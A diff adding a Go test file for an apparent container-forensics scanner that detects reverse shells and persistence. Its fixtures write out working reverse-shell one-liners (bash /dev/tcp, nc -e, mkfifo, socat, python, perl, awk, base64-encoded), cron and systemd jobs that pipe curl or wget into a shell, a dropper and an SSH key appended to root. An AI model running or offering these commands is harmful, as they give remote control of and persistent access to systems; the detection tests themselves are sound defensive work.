@@ -1,0 +1,135 @@
+package shell
+
+import (
+	"encoding/base64"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/strata-forensics/strata/audit"
+	"github.com/strata-forensics/strata/forensics"
+)
+
+func scanFile(p, text string) []audit.Finding {
+	return New().Content(audit.File{Layer: 1, Entry: &forensics.Entry{Path: p, Size: int64(len(text))}}, []byte(text))
+}
+
+func rules(fs []audit.Finding) []string {
+	var out []string
+	for _, f := range fs {
+		out = append(out, f.Rule)
+	}
+	slices.Sort(out)
+	return slices.Compact(out)
+}
+
+func dump(fs []audit.Finding) string {
+	var b strings.Builder
+	for _, f := range fs {
+		fmt.Fprintf(&b, "  %s %s %s %v %q [%s]\n", f.Severity, f.Rule, f.Category, f.Labels, f.Title, f.Evidence)
+	}
+	return b.String()
+}
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+func TestShellBehaviour(t *testing.T) {
+	tests := []struct {
+		name, path, text string
+		want             []string // rules, sorted
+		cat              audit.Category
+		label            audit.Category
+	}{
+		{name: "bash dev tcp", path: "/usr/local/bin/u", text: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n", want: []string{RuleDevTCP}, cat: audit.CategoryReverseShell},
+		{name: "dev tcp vars", path: "/opt/x.sh", text: "H=203.0.113.45\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1\n", want: []string{RuleDevTCP}},
+		{name: "exec fd", path: "/root/.bash_history", text: "0<&196;exec 196<>/dev/tcp/attacker.example.net/9001; sh <&196 >&196 2>&196\n", want: []string{RuleDevTCP}},
+		{name: "read loop", path: "/opt/r.sh", text: "exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", want: []string{RuleCmdLoop}},
+		{name: "nc -e", path: "/opt/k.sh", text: "#!/bin/sh\nnc -e /bin/sh 203.0.113.45 4444\n", want: []string{RuleNetExec}},
+		{name: "ncat ssl -e", path: "/root/notes", text: "ncat 198.51.100.7 443 --ssl -e /bin/bash\n", want: []string{RuleNetExec}},
+		{name: "combined flags", path: "/opt/k.sh", text: "#!/bin/sh\nnc -nve /bin/bash 203.0.113.45 4444\n", want: []string{RuleNetExec}},
+		{name: "mkfifo one line", path: "/tmp/x.sh", text: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n", want: []string{RuleFifo}},
+		{name: "mkfifo two lines", path: "/usr/local/bin/sync", text: "#!/bin/sh\nmkfifo /tmp/.f\ncat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/.f\n", want: []string{RuleFifo}},
+		{name: "mknod telnet", path: "/tmp/y.sh", text: "#!/bin/sh\nmknod /tmp/backpipe p && telnet 203.0.113.9 23 0</tmp/backpipe | /bin/bash 1>/tmp/backpipe\n", want: []string{RuleFifo}},
+		{name: "socat", path: "/opt/s.sh", text: "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane\n", want: []string{RuleSocat}},
+		{name: "socat caps", path: "/opt/s2.sh", text: "#!/bin/sh\nsocat TCP4:198.51.100.7:443 EXEC:/bin/sh\n", want: []string{RuleSocat}},
+		{name: "telnet pipe", path: "/opt/t.sh", text: "#!/bin/sh\ntelnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445\n", want: []string{RuleNetPipe}},
+		{name: "openssl fifo", path: "/opt/o.sh", text: "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s; rm /tmp/s\n", want: []string{RuleFifo}},
+		{name: "function", path: "/opt/f.sh", text: "#!/bin/bash\nconnect() {\n  bash -i >& /dev/tcp/$1/$2 0>&1\n}\nwhile true; do connect 203.0.113.9 4444; sleep 60; done\n", want: []string{RuleDevTCP}},
+		{name: "var command", path: "/opt/v.sh", text: "#!/bin/bash\nC=\"nc -e /bin/sh\"\n$C 203.0.113.9 4444\n", want: []string{RuleNetExec}},
+		{name: "bash -c", path: "/opt/c.sh", text: "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n", want: []string{RuleDevTCP}},
+		{name: "base64 pipe", path: "/opt/b.sh", text: "#!/bin/sh\necho " + b64("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") + " | base64 -d | bash\n", want: []string{RuleDevTCP, RuleDecodeRun}},
+		{name: "base64 herestring", path: "/opt/b2.sh", text: "#!/bin/bash\nbase64 -d <<< " + b64("nc -e /bin/sh 203.0.113.9 4444") + " | sh\n", want: []string{RuleNetExec, RuleDecodeRun}},
+		{name: "base64 subst", path: "/opt/b3.sh", text: "#!/bin/bash\neval \"$(echo " + b64(b64("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")) + " | base64 -d | base64 --decode)\"\n", want: []string{RuleDevTCP, RuleDecodeRun}},
+		{name: "python -c", path: "/app/p.sh", text: "#!/bin/sh\npython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'\n", want: []string{RulePython}},
+		{name: "perl -e", path: "/usr/local/bin/mon2", text: "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n", want: []string{RulePerl}},
+		{name: "awk", path: "/opt/a.sh", text: "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(42) { do{ printf \"> \" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null\n", want: []string{RuleAwk}},
+		{name: "cron nc -e", path: "/etc/cron.d/sync", text: "*/5 * * * * root nc -e /bin/sh 203.0.113.9 4444\n", want: []string{RuleNetExec}, cat: audit.CategoryReverseShell, label: audit.CategoryPersistence},
+		{name: "cron curl sh", path: "/etc/cron.d/sync", text: "*/5 * * * * root curl -fsSL http://203.0.113.45/a.sh | sh\n", want: []string{RuleCron}, cat: audit.CategoryPersistence, label: audit.CategoryMalware},
+		{name: "user crontab", path: "/var/spool/cron/crontabs/root", text: "@reboot /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/53 0>&1'\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
+		{name: "crontab installer", path: "/usr/local/bin/setup.sh", text: "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - http://198.51.100.7/s | bash\") | crontab -\n", want: []string{RuleCron}, cat: audit.CategoryPersistence},
+		{name: "systemd unit", path: "/etc/systemd/system/update-helper.service", text: "[Service]\nExecStart=/bin/bash -c 'while true; do curl -s http://198.51.100.7/t | bash; sleep 300; done'\n", want: []string{RuleSystemd}, cat: audit.CategoryPersistence},
+		{name: "systemd reverse", path: "/lib/systemd/system/net-check.service", text: "[Service]\nExecStart=/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n", want: []string{RulePython}, label: audit.CategoryPersistence},
+		{name: "rc.local", path: "/etc/rc.local", text: "#!/bin/sh -e\n(curl -s http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh) | sh &\nexit 0\n", want: []string{RuleAutostart}, cat: audit.CategoryPersistence},
+		{name: "dropper", path: "/start.sh", text: "#!/bin/sh\ncd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread\n", want: []string{RuleDropRun}},
+		{name: "key append", path: "/docker-entrypoint.sh", text: "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x x@y' >> /root/.ssh/authorized_keys\n", want: []string{RuleKeyAppend}},
+		{name: "base64 blob", path: "/opt/.cache/stage", text: b64("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n") + "\n", want: []string{RuleDevTCP}},
+
+		// Silent.
+		{name: "healthcheck", path: "/usr/local/bin/healthcheck", text: "#!/bin/bash\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' || exit 1\nexec 3<>/dev/tcp/localhost/8080\nprintf 'GET /healthz HTTP/1.0\\r\\n\\r\\n' >&3\ngrep -q '200 OK' <&3\nexec 3>&-\nuntil nc -z db 5432; do sleep 1; done\nnc -l -p 9000 < /srv/status.txt &\nsocat TCP-LISTEN:8081,fork,reuseaddr TCP:backend:80 &\nsocat TCP-LISTEN:8082,reuseaddr,fork EXEC:/usr/local/bin/handler.sh &\n"},
+		{name: "bash docs", path: "/usr/share/doc/bash/notes.txt", text: "REDIRECTION\n  Bash handles /dev/tcp/host/port or /dev/udp/host/port.\n  Example: read a daytime server with  cat < /dev/tcp/time.example.org/13\n"},
+		{name: "crontab clean", path: "/etc/crontab", text: "SHELL=/bin/sh\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n*/10 * * * *\troot\tcurl -fsS -m 10 --retry 5 https://hc-ping.example.com/0f3a > /dev/null\n"},
+		{name: "unit clean", path: "/lib/systemd/system/app.service", text: "[Service]\nExecStartPre=/usr/bin/curl -fsS http://127.0.0.1:8500/v1/status/leader\nExecStart=/usr/sbin/nginx -g 'daemon off;'\nExecReload=/bin/sh -c 'kill -HUP $MAINPID'\n"},
+		{name: "python stdlib shape", path: "/usr/lib/python3/dist-packages/x.py", text: "import socket\ns = socket.create_connection((host, port))\ns.sendall(b'hi')\nsubprocess.run(['ls'])\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := scanFile(tt.path, tt.text)
+			got := rules(fs)
+			want := slices.Clone(tt.want)
+			slices.Sort(want)
+			if !slices.Equal(got, want) {
+				t.Fatalf("rules %v, want %v\n%s", got, want, dump(fs))
+			}
+			for _, f := range fs {
+				if f.Rule != want[0] && len(want) > 1 {
+					continue
+				}
+				if tt.cat != "" && f.Category != tt.cat {
+					t.Errorf("%s: category %s, want %s", f.Rule, f.Category, tt.cat)
+				}
+				if tt.label != "" && !f.Is(tt.label) {
+					t.Errorf("%s: labels %v lack %s", f.Rule, f.Labels, tt.label)
+				}
+				if len(f.Techniques) == 0 {
+					t.Errorf("%s: no techniques", f.Rule)
+				}
+			}
+		})
+	}
+}
+
+// The old YARA samples are found by the structural analyzer.
+func TestOldSamples(t *testing.T) {
+	dir := "testdata"
+	for name, p := range map[string]string{
+		"rs001_bash_i.sh": "/usr/local/bin/update", "rs001_udp.sh": "/opt/run.sh", "rs002_nc.sh": "/opt/keep.sh",
+		"rs003_mkfifo.sh": "/tmp/x.sh", "rs004_socat.sh": "/opt/s.sh", "rs005_telnet.sh": "/opt/t.sh",
+		"rs006_python.py": "/app/helper.py", "rs006_pty.sh": "/app/p.sh", "rs007_perl.pl": "/usr/local/bin/mon",
+		"rs008_ruby.rb": "/app/lib/x.rb", "rs009_php.php": "/var/www/html/x.php", "rs009_php_proc.php": "/var/www/html/y.php",
+		"rs010_lua.lua": "/usr/local/share/lua/x.lua", "rs011_node.js": "/app/node_modules/x/index.js",
+		"ps001_crontab": "/var/spool/cron/crontabs/root", "ps001_etc_crontab": "/etc/crontab",
+	} {
+		data, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		fs := scanFile(p, string(data))
+		if len(fs) == 0 {
+			t.Errorf("%s: nothing found", name)
+		}
+		t.Logf("%s:\n%s", name, dump(fs))
+	}
+}
